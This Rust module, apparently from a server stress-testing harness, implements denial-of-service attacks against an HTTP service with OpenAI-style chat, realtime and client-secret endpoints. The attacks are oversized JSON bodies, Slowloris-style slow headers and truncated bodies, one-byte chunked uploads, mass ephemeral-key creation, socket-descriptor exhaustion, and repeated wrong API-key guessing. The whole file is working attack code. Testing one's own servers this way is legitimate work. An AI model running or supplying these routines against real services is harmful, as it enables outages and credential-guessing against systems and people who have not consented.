//! Attacks over HTTP: slow requests, bodies that grow in memory, keys.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use anyhow::Result;

use super::victim::{Victim, list};

/// Largest body of a chat completion, in bytes.
const CHAT: usize = 20 << 20;
/// Connections of one attacker that hold descriptors.
const MOST_SOCKETS: usize = 4_000;
const JSON: &str = "application/json";

fn chat(victim: &Victim, body: &str) -> Result<TcpStream> {
    victim.send("/v1/chat/completions", JSON, body.as_bytes())
}

/// Bodies of 20 MB whose unknown fields are arrays of tiny values.
pub fn json_bombs(victim: &Victim) -> Result<()> {
    let zeros = list("0", CHAT / 2 - 200);
    let body = format!(r#"{{"messages":[{{"role":"user","content":"hi"}}],"modalities":["text"],"x":[{zeros}]}}"#);
    victim.repeat(4, |victim, _| {
        let mut response = Vec::new();
        chat(victim, &body)?.read_to_end(&mut response)?;
        Ok(())
    });
    Ok(())
}

/// Bodies of 20 MB of text parts, whose client hangs up.
pub fn quadratic_parts(victim: &Victim) -> Result<()> {
    let part = r#"{"type":"text","text":"aaaa bbbb cccc dddd eee "}"#;
    let parts = list(part, CHAT / (part.len() + 1) - 10);
    let body =
        format!(r#"{{"messages":[{{"role":"user","content":[{parts}]}}],"modalities":["text"],"max_tokens":1}}"#);
    victim.repeat(4, |victim, _| chat(victim, &body).map(drop));
    Ok(())
}

/// Connections that send a byte of a request's head each second, and that send nothing.
pub fn slow_heads(victim: &Victim) -> Result<()> {
    let mut sockets: Vec<TcpStream> = Vec::new();
    while !victim.is_over() {
        while sockets.len() < 800 {
            let Ok(mut socket) = victim.connect() else { break };
            if sockets.len().is_multiple_of(2) {
                // A server that refuses closes it, which the next byte shows.
                let _ = socket.write_all(b"GET /v1/models HTTP/1.1\r\nX: ");
            }
            sockets.push(socket);
        }
        let mut speaks = false;
        sockets.retain_mut(|socket| {
            speaks = !speaks;
            !speaks || socket.write_all(b"a").is_ok()
        });
        thread::park_timeout(Duration::from_secs(1));
    }
    Ok(())
}

/// Bodies that stop before their end: offers of 1 MB, and uploads of 20 MB.
pub fn slow_bodies(victim: &Victim) -> Result<()> {
    victim.repeat(200, |victim, number| {
        let (path, kind, length) = match number {
            0..8 => ("/v1/chat/completions", JSON, CHAT),
            _ => ("/v1/realtime/calls", "application/sdp", 1_118_000),
        };
        let mut socket = victim.connect()?;
        let more = format!("Content-Type: {kind}\r\nContent-Length: {length}\r\n");
        socket.write_all(victim.head("POST", path, &more).as_bytes())?;
        socket.write_all(&vec![b'a'; length - 100])?;
        victim.hold();
        Ok(())
    });
    Ok(())
}

/// Bodies in chunks of one byte.
pub fn chunk_bombs(victim: &Victim) -> Result<()> {
    let chunks = "1\r\na\r\n".repeat(1_000);
    victim.repeat(16, |victim, number| {
        let path = ["/v1/realtime/calls", "/v1/chat/completions"][number % 2];
        let mut socket = victim.connect()?;
        let more = "Content-Type: application/sdp\r\nTransfer-Encoding: chunked\r\n";
        socket.write_all(victim.head("POST", path, more).as_bytes())?;
        for _ in 0..1_040 {
            socket.write_all(chunks.as_bytes())?;
        }
        Ok(())
    });
    Ok(())
}

/// Ephemeral keys until the server refuses, with large and with small configurations.
pub fn client_secrets(victim: &Victim) -> Result<()> {
    let session = |text: &str| {
        format!(
            r#"{{"expires_after":{{"anchor":"created_at","seconds":7200}},"session":{{"type":"realtime","instructions":"{text}"}}}}"#
        )
    };
    let bodies = [session(&"a ".repeat(120_000)), session("")];
    victim.repeat(4, |victim, number| {
        victim.post("/v1/realtime/client_secrets", JSON, bodies[number % 2].as_bytes()).map(drop)
    });
    Ok(())
}

/// Connections without a request, as many as the process may open.
pub fn descriptors(victim: &Victim) -> Result<()> {
    let mut sockets = Vec::new();
    while !victim.is_over() {
        match victim.connect() {
            Ok(socket) if sockets.len() < MOST_SOCKETS => sockets.push(socket),
            // The oldest ones make room, also if the own limit is reached.
            _ => {
                sockets.drain(..sockets.len() / 2);
                thread::park_timeout(Duration::from_millis(100));
            }
        }
    }
    Ok(())
}

/// Requests with wrong keys, over connections that stay open.
pub fn wrong_keys(victim: &Victim) -> Result<()> {
    victim.repeat(8, |victim, number| {
        let mut socket = victim.connect()?;
        let mut buffer = vec![0; 1 << 16];
        for guess in 0..1_000 {
            let guessed = Victim { key: format!("guessed-key-{number}-{guess:06}"), ..victim.clone() };
            socket.write_all(guessed.head("GET", "/v1/models", "").as_bytes())?;
            if socket.read(&mut buffer)? == 0 || victim.is_over() {
                break;
            }
        }
        Ok(())
    });
    Ok(())
}
